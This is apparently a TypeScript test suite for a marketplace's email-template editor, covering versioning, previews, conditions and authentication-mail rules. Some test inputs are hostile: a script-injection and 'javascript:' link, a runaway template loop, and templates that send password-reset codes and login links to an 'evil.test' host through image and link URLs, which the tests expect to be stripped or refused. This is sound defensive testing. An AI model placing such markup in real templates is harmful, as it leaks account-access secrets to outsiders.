import { standardText } from './standardText';
import { renderMail, mailValueNames } from './renderMail';
import { languages } from '../../locales/languages';
import {
  notificationTemplates,
  isDocumentTemplate,
  type MailTemplateName,
} from '../../domain/documents/documents';
import type { MailCondition } from '../../domain/notifications/conditions';
import { withDefaults } from '../../domain/settings/settings';
import { queueMail } from './queueMail';
import { addTemplateVersion, templateVersions } from './queries/templateVersions';
import { hardestSamples } from './sampleMail';
import { addOrder } from '../../testing/server/orders';
import { openedMails } from '../../testing/server/openedMails';
import { addStore, startServer, type Caller, type TestServer } from '../../testing/server/startServer';

const admin: Caller = { store: 'main', vendor: '*' };
const fjord: Caller = { store: 'main', vendor: 'Fjord' };

/** Names of the specification, section 3, line 124. */
const named = `vendor-new-message vendor-pending-approval vendor-rejection order-placed product-approved
  product-unapproved order-reminder-1 order-reminder-2 order-reminder-3 auth-change-password auth-verify auth-invite
  marketplace-on-product-submitted marketplace-duty-digest marketplace-new-vendor marketplace-vendor-request
  marketplace-automated-payments marketplace-integration-set offer-received offer-rejected offer-requested doc-customer-invoice doc-packing-slip doc-vendor-invoice`.split(
  /\s+/,
);

let server: TestServer;
beforeAll(async () => {
  server = await startServer();
  await server.addStore('main', ['Fjord']);
  await addStore(server.services, 'other', []);
});
afterAll(() => server.close());

const mails = (template: string, store = 'main') =>
  server.services.db
    .selectFrom('mails')
    .selectAll()
    .where('store', '=', store)
    .where('template', '=', template)
    .orderBy('id')
    .execute();

it('every template of the specification is read, tried and sent to whoever asks', async () => {
  for (const template of named) {
    const read = await server.call('readTemplate', { template: template as 'order-placed' }, admin);
    expect([template, read.status, read.body.html !== '']).toEqual([template, 200, true]);
    const sent = await server.call('testTemplateMail', { template: template as 'order-placed' }, admin);
    expect([template, sent.status, sent.body]).toEqual([template, 200, { recipient: 'admin@main.test' }]);
  }
  expect(await mails('product-approved')).toMatchObject([{ recipient: 'admin@main.test' }]);
});

it('the text that one begins with says, filled in, what ours says', () => {
  const store = { shopName: 'Sund & Co', locale: 'en', features: withDefaults({}) };
  const plain = (text: string): string => text.replace(/\s+/g, ' ').trim();
  for (const template of notificationTemplates) {
    if (isDocumentTemplate(template)) continue;
    for (const language of languages)
      for (const values of hardestSamples(template)) {
        const own = standardText(template, mailValueNames(values), language);
        const ours = renderMail(store, template, values, language);
        const theirs = renderMail(store, template, values, language, own);
        expect([template, language, theirs.subject]).toEqual([template, language, ours.subject]);
        expect([template, language, plain(theirs.said)]).toEqual([template, language, plain(ours.said)]);
      }
  }
});

it('an own text is said in its language alone, until ours is taken back', async () => {
  const html =
    '<p>Dear {{ vendor }}<script>alert(1)</script>, <a class="button" href="javascript:x">no</a></p>';
  const change = {
    template: 'vendor-rejection',
    language: 'de',
    subject: 'Leider {{ vendor }}',
    html,
  } as const;
  const saved = await server.call('saveTemplate', change, admin);
  expect(saved.body).toMatchObject({ language: 'de', languages: ['de'], standard: false, html });
  await server.call('testTemplateMail', { template: 'vendor-rejection', language: 'de' }, admin);
  await server.call('testTemplateMail', { template: 'vendor-rejection', language: 'nl' }, admin);
  const [german, dutch] = (await mails('vendor-rejection')).slice(-2);
  expect(german?.subject).toBe('Leider Atelier Oak');
  expect(german?.html).toContain('Dear Atelier Oak');
  expect(german?.html).not.toMatch(/<script>alert|javascript:/);
  expect(dutch?.subject).not.toContain('Leider');
  const ours = await server.call(
    'saveTemplate',
    { template: 'vendor-rejection', language: 'de', subject: null, html: null },
    admin,
  );
  expect(ours.body).toMatchObject({ standard: true, languages: [] });
});

it('what a template said is kept by language, with who kept it and when, and never lost by ours', async () => {
  const template = 'vendor-pending-approval';
  const historyOf = async (language: string, as = admin) =>
    (await server.call('readTemplateHistory', { template, language }, as)).body.versions;
  const save = (subject: string | null, html: string | null) =>
    server.call('saveTemplate', { template, language: 'fr', subject, html }, admin);
  const ours = (await server.call('readTemplate', { template, language: 'fr' }, admin)).body;
  await save('Un', '<p>Un</p>');
  await save('Deux', '<p>Deux</p>');
  await save('Deux', '<p>Deux</p>');
  await save(null, null);
  expect((await save('x', '{{ nope }}')).status).toBe(422);
  const versions = await historyOf('fr');
  expect(versions.map(({ subject, standard, by }) => ({ subject, standard, by }))).toEqual([
    { subject: ours.subject, standard: true, by: 'admin@main.test' },
    { subject: 'Deux', standard: false, by: 'admin@main.test' },
    { subject: 'Un', standard: false, by: 'admin@main.test' },
  ]);
  expect(versions.map(({ html }) => html)).toEqual([ours.html, '<p>Deux</p>', '<p>Un</p>']);
  expect(await historyOf('de')).toEqual([]);
  expect(await historyOf('fr', { store: 'other', vendor: '*' })).toEqual([]);
  const refused = await server.call('readTemplateHistory', { template }, fjord);
  expect(refused.status).toBe(403);
});

it('what a document said is kept as well', async () => {
  const template = 'doc-packing-slip';
  await server.call('saveTemplate', { template, html: '<p>Slip {{ order.name }}</p>' }, admin);
  await server.call('saveTemplate', { template, html: null }, admin);
  const { versions } = (await server.call('readTemplateHistory', { template }, admin)).body;
  expect(versions.map(({ html, standard }) => [html, standard])).toEqual([
    [(await server.call('readTemplate', { template }, admin)).body.html, true],
    ['<p>Slip {{ order.name }}</p>', false],
  ]);
  expect((await server.call('readTemplateHistory', { template, language: 'de' }, admin)).status).toBe(422);
});

it.each([
  ['its subject', { subject: '{{ vendor | loud }}', html: '<p>x</p>' }, 'subject'],
  ['its text', { subject: 'x', html: '<p>{{ vendor | loud }}</p>' }, 'html'],
])('of a mistake in %s the preview says where it is', async (_, text, mistakeIn) => {
  const { body } = await server.call('previewTemplate', { template: 'vendor-rejection', ...text }, admin);
  expect(body).toMatchObject({ mistake: { line: 1 }, mistakeIn });
});

it('shows examples as the language of the preview writes them', async () => {
  const examplesIn = async (language: string): Promise<Record<string, string>> => {
    const asked = { template: 'offer-received', html: '<p>{{ price }} {{ until }}</p>', language } as const;
    const { body } = await server.call('previewTemplate', asked, admin);
    return Object.fromEntries(body.values.map(({ name, example }) => [name, example.replace(/\s/g, ' ')]));
  };
  const german = await examplesIn('de');
  expect(german).toMatchObject({ price: '40,00 €', total: '80,00 €' });
  expect(german['until']).toMatch(/^4\. Dezember 2026 um \d\d:00$/);
  expect(german['items']).toContain('Vereinbart: 40,00 € pro Stück.');
  const english = await examplesIn('en');
  expect(english).toMatchObject({ price: '€40.00' });
  expect(english['until']).toContain('December 2026');
});

it('of a text that is changed often the newest fifty are kept', async () => {
  const scope = { store: 'other', vendor: null };
  const { db } = server.services;
  const key = { template: 'order-placed', language: 'en' };
  for (let n = 1; n <= 52; n += 1)
    await addTemplateVersion(db, scope, key, { subject: String(n), html: 'x', by: 'a', at: new Date() });
  const kept = await templateVersions(db, scope, key);
  expect([kept.length, kept[0]?.subject, kept.at(-1)?.subject]).toEqual([50, '52', '3']);
});

it.each([
  ['a value that there is not', { html: '<p>{{ nope }}</p>' }, 'html', 'templateMistakeAt'],
  ['an end that is missing', { html: '{% if vendor %}' }, 'html', 'templateMistakeAt'],
  [
    'a loop without an end',
    { html: '{% for a in (1..99999999) %}x{% endfor %}' },
    'html',
    'templateMistakeAt',
  ],
  ['nothing', { html: '<p> </p>' }, 'html', 'mailBlank'],
  ['a subject of nothing', { subject: ' ' }, 'subject', 'mailBlank'],
  ['a subject that cannot be read', { subject: '{{ }' }, 'subject', 'templateMistakeAt'],
  ['a language that we have not', { subject: 'x', language: 'tlh' }, 'language', 'localeCode'],
  ['a delay', { delayInHours: 4 }, 'delayInHours', 'mailWithoutDelay'],
])('a text with %s is refused at its field, and the one that held stays', async (_, change, field, code) => {
  const before = await server.call('readTemplate', { template: 'vendor-rejection' }, admin);
  const { status, codes } = await server.call(
    'saveTemplate',
    { template: 'vendor-rejection', ...change },
    admin,
  );
  expect([status, codes[field]]).toEqual([422, code]);
  expect((await server.call('readTemplate', { template: 'vendor-rejection' }, admin)).body).toEqual(
    before.body,
  );
});

it('a reminder that would come before the one before it is refused by either call, and other mails can still be set', async () => {
  const late = { 'order-reminder-2': { delayInHours: 100 }, 'order-reminder-1': { delayInHours: 90 } };
  const set = async (templates: object) =>
    server.call('saveFeatures', { notifications: { templates } }, admin);
  expect((await set(late)).status).toBe(200);
  const first = { template: 'order-reminder-1' } as const;
  const save = await server.call('saveTemplate', { ...first, delayInHours: 200 }, admin);
  expect([save.status, save.codes]).toEqual([422, { delayInHours: 'remindersDisordered' }]);
  expect(save.errors).toEqual({
    delayInHours: 'Reminder 2 must come after reminder 1: later than 200 hours',
  });
  const same = await set({ 'order-reminder-1': { delayInHours: 100 } });
  expect([same.status, same.codes]).toEqual([
    422,
    { 'notifications.templates.order-reminder-2.delayInHours': 'remindersDisordered' },
  ]);
  expect((await set({ 'order-reminder-2': { enabled: false } })).status).toBe(200);
  expect((await server.call('saveTemplate', { ...first, delayInHours: 120 }, admin)).status).toBe(200);
  const on = await server.call('saveTemplate', { template: 'order-reminder-2', enabled: true }, admin);
  expect(on.codes).toEqual({ enabled: 'remindersDisordered' });
  // Set out of order before there was this check.
  const { db } = server.services;
  const settings = { notifications: { templates: { 'order-reminder-1': { delayInHours: 500 } } } };
  await db
    .updateTable('stores')
    .set({ settings: JSON.stringify(settings) })
    .where('store', '=', 'main')
    .execute();
  expect((await set({ 'offer-received': { enabled: false } })).status).toBe(200);
  await db.updateTable('stores').set({ settings: '{}' }).where('store', '=', 'main').execute();
});

it('mails without which nobody gets in cannot be switched off', async () => {
  for (const template of ['auth-change-password', 'auth-verify', 'auth-invite'] as const) {
    const { status, codes } = await server.call('saveTemplate', { template, enabled: false }, admin);
    expect([status, codes]).toEqual([422, { enabled: 'mailAlwaysOn' }]);
  }
});

it('what is switched off is not written, one by one or all at once, but for what opens an account', async () => {
  const link = 'https://shop.test/app';
  const write = async (): Promise<void> => {
    const mail = { store: 'main', recipient: 'someone@vendors.test' };
    const { db, vault } = server.services;
    const values = { vendor: 'Anders', email: 'someone@vendors.test', message: '', link };
    await queueMail(db, {
      ...mail,
      template: 'vendor-pending-approval',
      values: { vendor: 'Anders', link: '' },
    });
    await queueMail(db, { ...mail, template: 'marketplace-vendor-request', values });
    await queueMail(db, {
      ...mail,
      vault,
      template: 'auth-invite',
      values: { name: '', invitedBy: 'Ada', link },
    });
  };
  const counts = async (): Promise<number[]> => [
    (await mails('vendor-pending-approval')).length,
    (await mails('marketplace-vendor-request')).length,
    (await mails('auth-invite')).length,
  ];
  const [applied = 0, told = 0, invited = 0] = await counts();
  await server.call('saveTemplate', { template: 'vendor-pending-approval', enabled: false }, admin);
  await write();
  expect(await counts()).toEqual([applied, told + 1, invited + 1]);
  await server.call('saveTemplate', { template: 'vendor-pending-approval', enabled: null }, admin);
  await server.call('saveFeatures', { notifications: { disableAll: true } }, admin);
  await write();
  expect(await counts()).toEqual([applied, told + 1, invited + 2]);
  await server.call('saveFeatures', { notifications: { disableAll: false } }, admin);
  await write();
  expect(await counts()).toEqual([applied + 1, told + 2, invited + 3]);
});

it('goes out only where all of its conditions hold, but to who tries it', async () => {
  const template = 'marketplace-vendor-request';
  const conditions: MailCondition[] = [
    { value: 'vendor', is: 'contains', text: 'oak' },
    { value: 'recipient', is: 'lacks', text: '@away.test' },
  ];
  const keep = (list: MailCondition[]) =>
    server.call(
      'saveFeatures',
      { notifications: { templates: { [template]: { conditions: list } } } },
      admin,
    );
  expect((await keep([{ value: 'late', is: 'atLeast', text: '1' }])).status).toBe(422);
  expect((await keep(conditions)).status).toBe(200);
  const before = (await mails(template)).length;
  for (const [vendor, recipient] of [
    ['Royal Oak', 'ada@main.test'],
    ['Royal Oak', 'bea@away.test'],
    ['Ash', 'ada@main.test'],
  ] as const) {
    const values = { vendor, email: 'x@vendors.test', message: '', link: 'https://shop.test/app' };
    await queueMail(server.services.db, { store: 'main', template, recipient, values });
  }
  expect((await mails(template)).length).toBe(before + 1);
  await server.call('testTemplateMail', { template }, admin);
  expect((await mails(template)).length).toBe(before + 2);
  await keep([]);
});

it('a trial of a new order tells one real order with its own lines, and leads to where its button would', async () => {
  const { db, config } = server.services;
  const { id } = await addOrder(db, {
    vendor: 'Fjord',
    purchase: 2044,
    placedAt: new Date('2026-03-01T12:00:00Z'),
    lines: [{ sku: 'STOOL', quantity: 3 }],
  });
  const linkIn = async (template: MailTemplateName): Promise<string> => {
    const text = { subject: 'x', html: '<p>{{ link }}</p>' };
    const { body } = await server.call('previewTemplate', { template, ...text }, admin);
    return body.values.find(({ name }) => name === 'link')?.example.replace(config.publicUrl, '') ?? '';
  };
  const text = { subject: '{{ order }}', html: '<p>{{ items | join: ";" }}</p>' };
  const { body } = await server.call('previewTemplate', { template: 'order-placed', ...text }, admin);
  expect(body.subject).toBe('#2044');
  expect(body.text).toContain('3 × Thing STOOL');
  expect(body.text).not.toContain(';');
  expect(await linkIn('order-placed')).toBe(`/app/orders/${String(id)}`);
  expect(await linkIn('product-approved')).toBe('/app/products?status=ALL');
  expect(await linkIn('marketplace-automated-payments')).toBe('/app/payouts');
  expect(await linkIn('auth-invite')).toBe('/app/login/change-password');
});

it('a text is not put in place of one that whoever saves has not seen, and who says nothing saves as before', async () => {
  for (const template of ['vendor-rejection', 'doc-packing-slip'] as const) {
    const first = (await server.call('readTemplate', { template }, admin)).body;
    const subject = first.subject === undefined ? {} : { subject: first.subject };
    const ours = { ...subject, html: first.html };
    const put = (html: string | null, seen?: { subject?: string; html: string }) =>
      server.call('saveTemplate', { template, html, ...(seen === undefined ? {} : { seen }) }, admin);
    expect((await put('<p>Theirs</p>', ours)).status).toBe(200);
    const late = await put('<p>Mine</p>', ours);
    expect([late.status, late.code]).toEqual([409, 'templateChanged']);
    expect((await server.call('readTemplate', { template }, admin)).body.html).toBe('<p>Theirs</p>');
    expect((await put('<p>Mine</p>', { ...subject, html: '<p>Theirs</p>' })).status).toBe(200);
    expect((await put('<p>Old</p>')).status).toBe(200);
    expect((await put(null)).status).toBe(200);
  }
});

describe('a mail that lets its reader in', () => {
  const secret = ['auth-change-password', 'auth-verify', 'auth-invite'] as const;

  it('carries its code or link nowhere but to its own link', async () => {
    for (const template of secret)
      for (const html of [
        '<p>Hello</p><img src="https://evil.test/p.png?c={{ link | url_encode }}">',
        '<p>Hello</p><img src="https://shop.test/logo.png">',
        '<p>Hello <a href="https://evil.test/?c={{ link | size }}">here</a></p>',
        '<p>Hello <a href="{{ link }}&amp;more=1">here</a></p>',
      ]) {
        const refused = await server.call('saveTemplate', { template, html }, admin);
        expect([template, html, refused.status]).toEqual([template, html, 422]);
        expect(refused.body).toMatchObject({ errors: { html: { code: 'mailLeadsAway' } } });
      }
  });

  it.each([
    ['auth-change-password', '<p>Hello</p>', 'code / link'],
    ['auth-change-password', '<p>{{ code | size }}</p>', 'code / link'],
    ['auth-invite', '<p>Hello {{ name }}</p>', 'link'],
    [
      'auth-invite',
      '{% if name != "" %}<p><a href="{{ link }}">Go</a></p>{% else %}<p>Hi</p>{% endif %}',
      'link',
    ],
    ['auth-verify', '<p><a>Go</a></p>', 'link'],
  ] as const)('is not kept without what lets them in: %s, %s', async (template, html, value) => {
    for (const language of languages) {
      const refused = await server.call('saveTemplate', { template, language, html }, admin);
      expect([refused.status, refused.body]).toMatchObject([
        422,
        { errors: { html: { code: 'mailLacks', params: { value } } } },
      ]);
    }
  });

  it('is not read from a file of settings without it either', async () => {
    const text = { template: 'auth-invite', language: 'fr', subject: 'Venez', html: '<p>Venez</p>' } as const;
    const refused = await server.call('applySettingsFile', { features: {}, texts: [text] }, admin);
    expect([refused.status, refused.codes]).toEqual([422, { 'texts.auth-invite.fr.html': 'mailLacks' }]);
  });

  it('may say its code, or its link alone', async () => {
    for (const html of ['<p>{{ code }}</p>', '<p><a href="{{ link }}">Go</a></p>', '<p>{{ link }}</p>']) {
      const change = { template: 'auth-change-password', html } as const;
      expect((await server.call('saveTemplate', change, admin)).status).toBe(200);
    }
    await server.call('saveTemplate', { template: 'auth-change-password', html: null, subject: null }, admin);
  });

  it('goes out in our words where one was kept that lets nobody in', async () => {
    const { db, vault } = server.services;
    const key = { store: 'main', template: 'auth-invite', language: 'en' };
    const text = { subject: 'Mine', html: '<p>Hello</p>', updated_at: new Date(), updated_by: 'x' };
    await db
      .insertInto('mail_texts')
      .values({ ...key, ...text })
      .execute();
    const link = 'https://shop.test/app/join';
    const values = { name: '', invitedBy: 'Ada', link };
    const to = { store: 'main', recipient: 'new@vendors.test', locale: 'en', values };
    await queueMail(db, { ...to, vault, template: 'auth-invite' });
    await db.deleteFrom('mail_texts').where('template', '=', 'auth-invite').execute();
    const sent = (await openedMails(server, 'new@vendors.test')).at(-1);
    expect(sent?.subject).toContain('Ada invites you');
    expect(sent?.html).toContain(link);
  });

  it('loses an outside address also where its text was kept before that was refused', () => {
    const store = { shopName: 'Sund', locale: 'en', features: withDefaults({}) };
    const html =
      '<p>{{ code }}</p><img src="https://evil.test/{{ code }}"><a href="https://evil.test/{{ code }}">x</a><a href="{{ link }}">y</a>';
    const values = { code: 'ABCD2345', link: 'https://market.test/app/login?a=1&b=2' };
    const mail = renderMail(store, 'auth-change-password', values, 'en', { subject: 'x', html });
    expect(mail.isCut).toBe(true);
    expect(mail.html).not.toContain('evil.test');
    expect(mail.html).toContain('href="https://market.test/app/login?a=1&amp;b=2"');
    expect(mail.html).toContain('ABCD2345');
  });

  it('is worded by owners alone, who all hear of it', async () => {
    const change = {
      template: 'auth-verify',
      subject: 'Mine',
      html: '<p><a href="{{ link }}">Go</a></p>',
    } as const;
    const manager = await server.call('saveTemplate', change, { ...admin, role: 'manager' });
    expect([manager.status, manager.body]).toMatchObject([403, { code: 'secretMailByOwners' }]);
    const before = (await mails('power-changed')).length;
    expect((await server.call('saveTemplate', change, admin)).status).toBe(200);
    const told = (await mails('power-changed')).slice(before);
    expect(told.map(({ recipient }) => recipient)).toContain('admin@main.test');
    expect(told.map(({ body }) => body).join()).toContain('Text of the mail “Confirm an address”');
    expect((await server.call('saveTemplate', { ...change, subject: null, html: null }, admin)).status).toBe(
      200,
    );
  });
});

it('templates are the marketplace’s own', async () => {
  expect((await server.call('readTemplate', { template: 'order-placed' }, fjord)).status).toBe(403);
  const change = { template: 'order-placed', subject: 'Mine' } as const;
  expect((await server.call('saveTemplate', change, fjord)).status).toBe(403);
  await server.call('saveTemplate', change, admin);
  const other = await server.call(
    'readTemplate',
    { template: 'order-placed' },
    { store: 'other', vendor: '*' },
  );
  expect(other.body.standard).toBe(true);
});
